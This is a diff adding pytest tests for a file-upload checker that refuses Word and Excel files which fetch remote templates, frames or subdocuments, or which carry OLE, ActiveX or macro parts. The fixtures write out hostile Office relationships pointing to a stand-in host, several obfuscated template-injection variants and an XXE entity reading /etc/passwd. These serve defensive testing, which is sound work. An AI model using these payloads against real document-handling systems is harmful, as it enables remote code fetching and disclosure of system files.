@@ -70,6 +70,74 @@ def test_what_lies_or_harms_is_refused_in_words(name: str, data: bytes, told: st
     assert filenames.cleaned(name) in str(refused.value)
 
 
+def _relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
+    office = "http://schemas.openxmlformats.org"
+    return (
+        f'<?xml version="1.0"?><Relationships xmlns="{office}/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{office}/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/>'
+        "</Relationships>"
+    ).encode()
+
+
+SETTINGS, DOCUMENT = "word/_rels/settings.xml.rels", "word/_rels/document.xml.rels"
+REMOTE = "https://ond.example/mal.dotm"
+
+
+@pytest.mark.parametrize(
+    ("part", "data", "told"),
+    [
+        (SETTINGS, _relation("attachedTemplate", REMOTE), "fetches something from elsewhere"),
+        (SETTINGS, _relation("attachedTemplate", REMOTE).replace(b"https", b"h&#116;tps"), "fetches something"),
+        (SETTINGS, _relation("attachedTemplate", REMOTE).decode().encode("utf-16"), "fetches something"),
+        ("Word/_RELS/Settings.xml.RELS", _relation("attachedTemplate", REMOTE), "fetches something"),
+        (SETTINGS, _relation("attachedTemplate", "file:///\\\\ond.example\\mal.dotm"), "fetches something"),
+        (SETTINGS, _relation("attachedTemplate", "file:///%5C%5Cond.example%5Cmal.dotm"), "fetches something"),
+        (SETTINGS, _relation("attachedTemplate", "file://ond.example/mal.dotm"), "fetches something"),
+        (SETTINGS, _relation("attachedTemplate", "\\\\ond.example\\mal.dotm"), "fetches something"),
+        (DOCUMENT, _relation("image", "//ond.example/spor.png"), "fetches something"),
+        (DOCUMENT, _relation("frame", "http://ond.example/"), "fetches something"),
+        (DOCUMENT, _relation("subDocument", "https://ond.example/a.docx"), "fetches something"),
+        (DOCUMENT, _relation("oleObject", "mhtml:https://ond.example/a.html!x-usc:b"), "an object of another program"),
+        (DOCUMENT, _relation("oleObject", "embeddings/hva.som.helst", ""), "an object of another program"),
+        (DOCUMENT, _relation("control", "a/b.xml", ""), "an object of another program"),
+        ("word/embeddings/oleObject1.bin", b"x", "an object of another program"),
+        ("word/embeddings/Arbeidsbok.xlsm", b"x", "an object of another program"),
+        ("word/activeX/activeX1.xml", b"x", "carries macros"),
+        (SETTINGS, b"<Relationships", "is broken"),
+        (SETTINGS, b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' * 2, "is broken"),
+    ],
+)
+def test_a_document_that_fetches_or_holds_what_runs_is_refused_in_words(part: str, data: bytes, told: str) -> None:
+    for name, made in (("a.docx", docx(**{part: data})),
+                       ("a.xlsx", office("xl/workbook.xml", "spreadsheetml.sheet", **{part: data}))):  # fmt: skip
+        with override("en"), pytest.raises(FileRefusedError) as refused:
+            files.checked(upload(name, made))
+        assert told in str(refused.value)
+
+
+@pytest.mark.parametrize(
+    ("part", "data"),
+    [
+        (DOCUMENT, _relation("hyperlink", "https://www.doffin.no/notices/2026-1")),
+        (DOCUMENT, _relation("hyperlink", "mailto:post@eksempelvik.example")),
+        (DOCUMENT, _relation("image", "media/image1.png", "")),
+        (SETTINGS, _relation("attachedTemplate", "file:///C:\\Users\\Ina\\Maler\\Brev.dotx")),
+        (SETTINGS, _relation("attachedTemplate", "Brev.dotx")),
+        ("xl/externalLinks/_rels/externalLink1.xml.rels", _relation("externalLinkPath", "file://srv/budsjett.xlsx")),
+        ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", b"the workbook behind a chart"),
+        ("word/charts/_rels/chart1.xml.rels", _relation("package", "../embeddings/Microsoft_Excel_Sheet.xlsx", "")),
+    ],
+)
+def test_links_that_wait_for_a_click_and_what_every_document_holds_stay_allowed(part: str, data: bytes) -> None:
+    assert files.checked(upload("a.docx", docx(**{part: data}))).name == "a.docx"
+
+
+def test_a_list_of_links_without_end_is_refused_before_it_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(filetypes, "MOST_RELATIONS", 100)
+    with override("en"), pytest.raises(FileRefusedError, match="far too large"):
+        files.checked(upload("a.docx", docx(**{DOCUMENT: _relation("hyperlink", "https://a.example")})))
+
+
 def test_a_file_may_be_as_large_as_we_say_and_no_larger() -> None:
     most = b"x" * files.MOST_BYTES
     assert files.checked(upload("a.txt", most)).size == 20 * 2**20
